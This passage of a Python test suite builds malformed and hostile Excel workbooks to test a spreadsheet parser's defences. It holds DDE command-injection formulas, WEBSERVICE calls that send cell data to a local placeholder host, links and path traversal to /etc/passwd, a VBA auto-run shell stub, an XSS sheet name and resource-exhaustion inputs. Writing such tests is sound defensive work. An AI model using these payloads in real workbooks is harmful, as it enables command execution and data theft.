            ),
            harapan,
        )
    )


_CF = (
    b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>1</formula></cfRule>'
    b"</conditionalFormatting>"
)
_sesudah_data("satu juta format bersyarat", _CF * 1_000_000)
_sesudah_data(
    "satu juta sel gabungan", b"<mergeCells>" + b'<mergeCell ref="AA1:AB2"/>' * 1_000_000 + b"</mergeCells>"
)
_sesudah_data("sel gabungan selembar penuh", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
_sesudah_data("sel gabungan rusak", b'<mergeCells><mergeCell ref="#REF!"/><mergeCell/></mergeCells>')
_sesudah_data(
    "tautan ke luar",
    b'<hyperlinks><hyperlink ref="A1" location="\\\\server\\bagi\\x"/><hyperlink ref="A2" r:id="rIdLuar"/></hyperlinks>',
    TERBACA,
)


@musuh("daftar kolom tak masuk akal", APA_SAJA)
def _kolom_aneh(folder: Path) -> Path:
    kolom = b'<cols><col min="x" max="99999999999999999999999" width="1e999" style="-7"/></cols>'
    return sunting(folder, ANGGARAN, lambda d: re.sub(rb"<cols>.*?</cols>", kolom, d, flags=re.DOTALL))


@musuh("serial tanggal tak masuk akal", TERBACA)
def _tanggal(folder: Path) -> Path:
    semua = bagian_nyata()
    nomor = re.search(rb"<cellXfs.*?</cellXfs>", semua[GAYA], re.DOTALL)
    jumlah = len(re.findall(rb"<xf ", nomor[0])) if nomor else 0
    gaya = _sebelum(b"</cellXfs>", b'<xf numFmtId="14"/>')(semua[GAYA])
    daftar = (
        b"1e10",
        b"52476100300",
        b"-1",
        b"-700000",
        b"2958465",
        b"2958466",
        b"60",
        b"0",
        b"1e300",
        b"0.999999999",
        b"109205000",
        b"9223372036854775807",
    )
    sel = b"".join(
        _baris(900 + n, b'<c r="E%d" s="%d"><v>%s</v></c>' % (900 + n, jumlah, v))
        for n, v in enumerate(daftar)
    )
    return tambah_baris(folder, sel, {GAYA: gaya})


# Calling out ------------------------------------------------------------------------------------


@musuh("rumus yang memanggil keluar", TERBACA)
def _rumus_luar(folder: Path) -> Path:
    daftar = ("WEBSERVICE(&quot;http://127.0.0.1:9/&quot;&amp;A1)", "cmd|'/c calc'!A1",
              "HYPERLINK(&quot;file:///etc/passwd&quot;)",
              "'\\\\127.0.0.1\\bagi\\[x.xlsx]S'!A1", "IMPORTXML(&quot;http://127.0.0.1:9/&quot;,&quot;//a&quot;)",
              "[1]Lembar!A1", "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)",
              "EXEC(&quot;calc&quot;)")  # fmt: skip
    sel = b"".join(
        _baris(900 + n, f'<c r="C{900 + n}" t="str"><f>{rumus}</f><v>=cmd</v></c>'.encode())
        for n, rumus in enumerate(daftar)
    )
    return tambah_baris(folder, sel)


@musuh("buku lain, DDE, koneksi, makro", TERBACA)
def _bagian_luar(folder: Path) -> Path:
    semua = bagian_nyata()
    rels = "xl/_rels/workbook.xml.rels"
    dasar = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    luar = (
        f'<Relationship Id="l1" Type="{dasar}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="l2" Type="{dasar}/connections" Target="connections.xml"/>'
        '<Relationship Id="l3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        f'<Relationship Id="l4" Type="{dasar}/attachedTemplate" Target="http://127.0.0.1:9/t.dotm" '
        'TargetMode="External"/>'
    )
    baru = {
        rels: _sebelum(b"</Relationships>", luar.encode())(semua[rels]),
        "xl/externalLinks/externalLink1.xml": (
            b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ),
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
            f'Type="{dasar}/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
        ).encode(),
        "xl/connections.xml": (
            b'<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://127.0.0.1:9/"/>'
            b"</connection></connections>"
        ),
        "xl/vbaProject.bin": b"Sub Auto_Open()\nShell \"calc\"\nEnd Sub",
    }  # fmt: skip
    return ganti(folder, baru)


def _lembar_di_luar(nama: str, target: str, ekor: str, harapan: str) -> None:
    def buat(folder: Path) -> Path:
        (folder / "rahasia.txt").write_text(RAHASIA, encoding="utf-8")
        return sunting(
            folder, "xl/_rels/workbook.xml.rels",
            lambda d: re.sub(rb'Target="(?:/xl/)?worksheets/sheet4.xml"', f'Target="{target}"{ekor}'.encode(), d),
        )  # fmt: skip

    DAFTAR.append(Musuh(nama, buat, harapan))


_lembar_di_luar("lembar menunjuk ke luar paket", "../../../../../../etc/passwd", "", DITOLAK)
_lembar_di_luar("lembar menunjuk berkas di sebelah", "file:rahasia.txt", "", DITOLAK)
_lembar_di_luar(
    "lembar menunjuk jaringan", "http://127.0.0.1:9/lembar.xml", ' TargetMode="External"', DITOLAK
)
_lembar_di_luar("lembar menunjuk daftar hubungan", "_rels/workbook.xml.rels", "", APA_SAJA)
_lembar_di_luar("lembar menunjuk dirinya sendiri", "workbook.xml", "", APA_SAJA)


@musuh("Strict Open XML", APA_SAJA)
def _strict(folder: Path) -> Path:
    tukar = (
        (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
        (
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships",
        ),
    )  # fmt: skip
    semua = bagian_nyata()
    for lama, baru in tukar:
        semua = {nama: isi.replace(lama, baru) for nama, isi in semua.items()}
    return tulis_zip(folder / "buku.xlsx", semua)


_RELS_TABEL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/table" '
    b'Target="../tables/table1.xml"/></Relationships>'
)


@musuh("tabel Excel rusak", APA_SAJA)
def _tabel(folder: Path) -> Path:
    tabel = b'<table ref="A1:XFD9999999" headerRowCount="abc" totalsRowCount="99999999999"/>'
    return ganti(folder, {"xl/worksheets/_rels/sheet4.xml.rels": _RELS_TABEL, "xl/tables/table1.xml": tabel})


@musuh("tabel Excel bermuatan entitas", APA_SAJA)
def _tabel_entitas(folder: Path) -> Path:
    (folder / "rahasia.txt").write_text(RAHASIA, encoding="utf-8")
    return ganti(
        folder,
        {
            "xl/worksheets/_rels/sheet4.xml.rels": _RELS_TABEL,
            "xl/tables/table1.xml": _LUAR + b'<table ref="&a9;"/>',
        },
    )


@musuh("hubungan melingkar dan ganda", APA_SAJA)
def _hubungan_ganda(folder: Path) -> Path:
    def ubah(data: bytes) -> bytes:
        return data.replace(
            b"</Relationships>",
            b'<Relationship Id="rId1" Type="x/worksheet" Target="workbook.xml"/></Relationships>',
        )

    return sunting(folder, "xl/_rels/workbook.xml.rels", ubah)


@musuh("lembar tanpa nama, nama panjang, nama aneh", APA_SAJA)
def _nama_lembar(folder: Path) -> Path:
    aneh = (
        "",
        "x" * 100_000,
        "\u202egnirdloh",
        "&#10;&#9;",
        "=cmd|' /c calc'!A1",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    )
    baru = _banyak_lembar(len(aneh), _lembar_polos(b""), False)
    for n, nama in enumerate(aneh):
        baru[BUKU] = baru[BUKU].replace(f'name="Banyak{n}"'.encode(), f'name="{nama}"'.encode())
    return ganti(folder, baru)
